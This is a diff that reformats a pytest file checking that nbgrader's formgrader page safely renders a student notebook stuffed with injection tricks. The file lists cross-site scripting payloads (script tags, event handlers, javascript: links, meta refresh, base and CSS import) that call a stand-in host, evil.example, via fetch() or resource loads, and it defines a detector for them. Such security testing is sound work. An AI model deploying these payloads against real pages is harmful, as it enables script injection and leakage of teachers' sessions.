@@ -1,4 +1,5 @@
 """The teacher's browser: formgrader on a submission full of tricks runs nothing and calls nobody, and an open answer is graded by hand there."""
+
 import os
 import re
 
@@ -17,10 +18,22 @@ pytestmark = pytest.mark.skipif(not WALLS.ok, reason=f"no walls on this machine:
 OPEN = "lower_loss_fewer_right"
 
 PWN = "window.pwned = 1; fetch('http://evil.example/')"
-TRICKS = [f"<script>{PWN}</script>", f"<img src=http://evil.example/x.png onerror=\"{PWN}\">", f"</pre></div><svg onload=\"{PWN}\">", f"{{{{ '</script><script>{PWN}</script>' }}}}",
-          f"<iframe srcdoc=\"<script>parent.{PWN}</script>\"></iframe>", "<meta http-equiv=refresh content='0;http://evil.example/'>", "<link rel=stylesheet href=http://evil.example/x.css>",
-          f"[click](javascript:{PWN})", "![x](http://evil.example/x.png)", f"$\\href{{javascript:{PWN}}}{{x}}$", f"</textarea></style></title><script>{PWN}</script>",
-          "<base href=http://evil.example/>", f"<form action=\"javascript:{PWN}\"><button autofocus onfocus=\"{PWN}\">x</button></form>", "<style>@import 'http://evil.example/x.css';</style>"]
+TRICKS = [
+    f"<script>{PWN}</script>",
+    f'<img src=http://evil.example/x.png onerror="{PWN}">',
+    f'</pre></div><svg onload="{PWN}">',
+    f"{{{{ '</script><script>{PWN}</script>' }}}}",
+    f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>',
+    "<meta http-equiv=refresh content='0;http://evil.example/'>",
+    "<link rel=stylesheet href=http://evil.example/x.css>",
+    f"[click](javascript:{PWN})",
+    "![x](http://evil.example/x.png)",
+    f"$\\href{{javascript:{PWN}}}{{x}}$",
+    f"</textarea></style></title><script>{PWN}</script>",
+    "<base href=http://evil.example/>",
+    f'<form action="javascript:{PWN}"><button autofocus onfocus="{PWN}">x</button></form>',
+    "<style>@import 'http://evil.example/x.css';</style>",
+]
 SHOWS = f"""
 from IPython.display import HTML, SVG, Javascript, Markdown, Latex, display, IFrame, Image
 TRICKS = {TRICKS!r}
@@ -39,10 +52,21 @@ FAILS = f"def bce(p, y, reduction='mean'):\n    raise ValueError({' '.join(TRICK
 
 
 def full_of_tricks():
-    nb = school.answered(LESSON, school.solution_cells(LESSON) | {"bce": FAILS + "\n# " + TRICKS[0]}, open_answer="\n\n".join(["Read this."] + TRICKS + EVIL))
-    nb.cells += [nbformat.v4.new_markdown_cell("\n\n".join(TRICKS + EVIL)), nbformat.v4.new_markdown_cell("```mermaid\ngraph TD; A-->B\n```"), nbformat.v4.new_raw_cell(TRICKS[0]),
-                 nbformat.v4.new_code_cell(SHOWS, outputs=[nbformat.v4.new_output("display_data", data={"text/html": TRICKS[0]})]), nbformat.v4.new_code_cell(RAISES),
-                 nbformat.v4.new_code_cell("'''" + "\n".join(TRICKS) + "'''")]
+    nb = school.answered(
+        LESSON,
+        school.solution_cells(LESSON) | {"bce": FAILS + "\n# " + TRICKS[0]},
+        open_answer="\n\n".join(["Read this."] + TRICKS + EVIL),
+    )
+    nb.cells += [
+        nbformat.v4.new_markdown_cell("\n\n".join(TRICKS + EVIL)),
+        nbformat.v4.new_markdown_cell("```mermaid\ngraph TD; A-->B\n```"),
+        nbformat.v4.new_raw_cell(TRICKS[0]),
+        nbformat.v4.new_code_cell(
+            SHOWS, outputs=[nbformat.v4.new_output("display_data", data={"text/html": TRICKS[0]})]
+        ),
+        nbformat.v4.new_code_cell(RAISES),
+        nbformat.v4.new_code_cell("'''" + "\n".join(TRICKS) + "'''"),
+    ]
     return nb
 
 
@@ -51,7 +75,12 @@ def folder(tmp_path_factory):
     """A course with an honest submission and one full of tricks, the honest one graded already."""
     folder = school.make(tmp_path_factory.mktemp("course"), LESSON)
     school.nbgrader(folder, "generate_assignment", LESSON, "--create")
-    school.submit(folder, "ann", LESSON, school.answered(LESSON, open_answer="The loss weighs every patient by how sure the model was."))
+    school.submit(
+        folder,
+        "ann",
+        LESSON,
+        school.answered(LESSON, open_answer="The loss weighs every patient by how sure the model was."),
+    )
     school.submit(folder, "eve", LESSON, full_of_tricks())
     (folder / "submitted" / "eve" / LESSON / "evil.html").write_text(TRICKS[0])
     school.nbgrader(folder, "autograde", LESSON, "--create", "--student", "ann")
@@ -61,8 +90,22 @@ def folder(tmp_path_factory):
 @pytest.fixture(scope="module")
 def server(folder, tmp_path_factory):
     """A Jupyter server with nbgrader's extensions in the course's folder, as a teacher starts it: its address."""
-    command = ["jupyter", "server", "--allow-root", "--ServerApp.open_browser=False", "--ip=127.0.0.1", "--ServerApp.port_retries=0", "--IdentityProvider.token="]
-    with pages.serving(command, folder, tmp_path_factory.mktemp("home"), r"http://127\.0\.0\.1:\d+(?=/)", PATH=f"{school.BIN}:{os.environ['PATH']}") as found:
+    command = [
+        "jupyter",
+        "server",
+        "--allow-root",
+        "--ServerApp.open_browser=False",
+        "--ip=127.0.0.1",
+        "--ServerApp.port_retries=0",
+        "--IdentityProvider.token=",
+    ]
+    with pages.serving(
+        command,
+        folder,
+        tmp_path_factory.mktemp("home"),
+        r"http://127\.0\.0\.1:\d+(?=/)",
+        PATH=f"{school.BIN}:{os.environ['PATH']}",
+    ) as found:
         yield found[0]
 
 
@@ -74,14 +117,20 @@ def page(chromium):
     page.called, page.asked = set(), []
     page.on("request", lambda r: page.called.add(r.url))
     page.on("dialog", lambda d: (page.asked.append(d.message), d.dismiss()))
-    context.route(lambda url: not url.startswith(("http://127.0.0.1:", "data:", "file:")), lambda route: route.abort())
+    context.route(
+        lambda url: not url.startswith(("http://127.0.0.1:", "data:", "file:")), lambda route: route.abort()
+    )
     page.set_default_timeout(SECONDS * 1000)
     yield page
     context.close()
 
 
 def outside(page):
-    return {url.split("?")[0] for url in page.called if not url.startswith(("http://127.0.0.1:", "data:", "file:"))}
+    return {
+        url.split("?")[0]
+        for url in page.called
+        if not url.startswith(("http://127.0.0.1:", "data:", "file:"))
+    }
 
 
 def submission(folder, student):
@@ -92,12 +141,18 @@ def submission(folder, student):
 
 
 def links(page):
-    return {href for href in page.eval_on_selector_all("a", "all => all.map(a => a.getAttribute('href'))") if href and not href.startswith("#")}
+    return {
+        href
+        for href in page.eval_on_selector_all("a", "all => all.map(a => a.getAttribute('href'))")
+        if href and not href.startswith("#")
+    }
 
 
 def formulas(page):
     """How many formulas MathJax has set, when it has done all that there are."""
-    page.wait_for_function("() => window.MathJax && MathJax.isReady && !MathJax.Hub.queue.pending && !MathJax.Hub.queue.running")
+    page.wait_for_function(
+        "() => window.MathJax && MathJax.isReady && !MathJax.Hub.queue.pending && !MathJax.Hub.queue.running"
+    )
     return page.locator("#notebook-container .MathJax").count()
 
 
@@ -108,35 +163,60 @@ def is_harmless(page, known=frozenset()):
     assert not outside(page)
     assert links(page) <= known, links(page) - known
     body = "#notebook-container" if page.locator("#notebook-container").count() else "main"
-    for what in ("script[src*=evil]", f"{body} script:not([type*=mathjax], [type^='math/'])", f"{body} iframe", f"{body} object", f"{body} form", f"{body} svg", f"{body} style", "base", f"{body} meta", f"{body} link"):
+    for what in (
+        "script[src*=evil]",
+        f"{body} script:not([type*=mathjax], [type^='math/'])",
+        f"{body} iframe",
+        f"{body} object",
+        f"{body} form",
+        f"{body} svg",
+        f"{body} style",
+        "base",
+        f"{body} meta",
+        f"{body} link",
+    ):
         assert page.locator(what).count() == 0, what
-    assert all(src.startswith("data:image/png;base64,") for src in page.eval_on_selector_all(f"{body} img", "all => all.map(i => i.getAttribute('src'))"))
-    handlers = page.eval_on_selector_all(f"{body} *", "all => all.flatMap(e => e.getAttributeNames().filter(n => n.startsWith('on')))")
+    assert all(
+        src.startswith("data:image/png;base64,")
+        for src in page.eval_on_selector_all(f"{body} img", "all => all.map(i => i.getAttribute('src'))")
+    )
+    handlers = page.eval_on_selector_all(
+        f"{body} *", "all => all.flatMap(e => e.getAttributeNames().filter(n => n.startsWith('on')))"
+    )
     assert not handlers
 
 
 def test_the_button_grades_and_the_page_is_harmless(folder, server, page, tmp_path):
     page.goto(f"{server}/formgrader/submissions/{submission(folder, 'ann')}/")
     page.wait_for_load_state("networkidle")
-    assert formulas(page) > 5 and not outside(page)         # without the internet, too
+    assert formulas(page) > 5 and not outside(page)  # without the internet, too
     page.screenshot(path=tmp_path / "formulas.png", full_page=True)
-    known = {link.replace(submission(folder, "ann"), "…") for link in links(page)}      # nbgrader's own, and the course's
+    known = {
+        link.replace(submission(folder, "ann"), "…") for link in links(page)
+    }  # nbgrader's own, and the course's
     assert not any("evil" in url or url.startswith("javascript") for url in known)
 
     page.goto(f"{server}/formgrader/manage_submissions/{LESSON}")
     row = page.locator("tr", has=page.locator("td", has_text=re.compile(r"^\s*eve\s*$")))
     row.locator(".autograde a").click()
     page.wait_for_function("() => document.querySelector('.modal.in .modal-title')")
-    assert "Success" in page.locator(".modal.in .modal-title").inner_text(), page.locator(".modal.in").inner_text()
+    assert "Success" in page.locator(".modal.in .modal-title").inner_text(), page.locator(
+        ".modal.in"
+    ).inner_text()
     graded = school.grades(folder, LESSON)
-    assert graded["eve"]["test_bce"] == 0 and graded["eve"]["test_bce_grad"] == graded["ann"]["test_bce_grad"] > 0
+    assert (
+        graded["eve"]["test_bce"] == 0
+        and graded["eve"]["test_bce_grad"] == graded["ann"]["test_bce_grad"] > 0
+    )
 
     page.called.clear()
     page.goto(f"{server}/formgrader/submissions/{submission(folder, 'eve')}/")
     assert formulas(page) > 5
     is_harmless(page, {link.replace("…", submission(folder, "eve")).replace("ann", "eve") for link in known})
     text = page.locator("#notebook-container").first.inner_text()
-    assert "Read this." in text and "bce: stopped with an error" in text and "onerror" in text      # all is there to be read
+    assert (
+        "Read this." in text and "bce: stopped with an error" in text and "onerror" in text
+    )  # all is there to be read
     page.screenshot(path=tmp_path / "formgrader.png", full_page=True)
     beside = page.request.get(f"{server}/formgrader/submissions/{submission(folder, 'eve')}/evil.html")
     assert beside.status == 404 or TRICKS[0] not in beside.text()
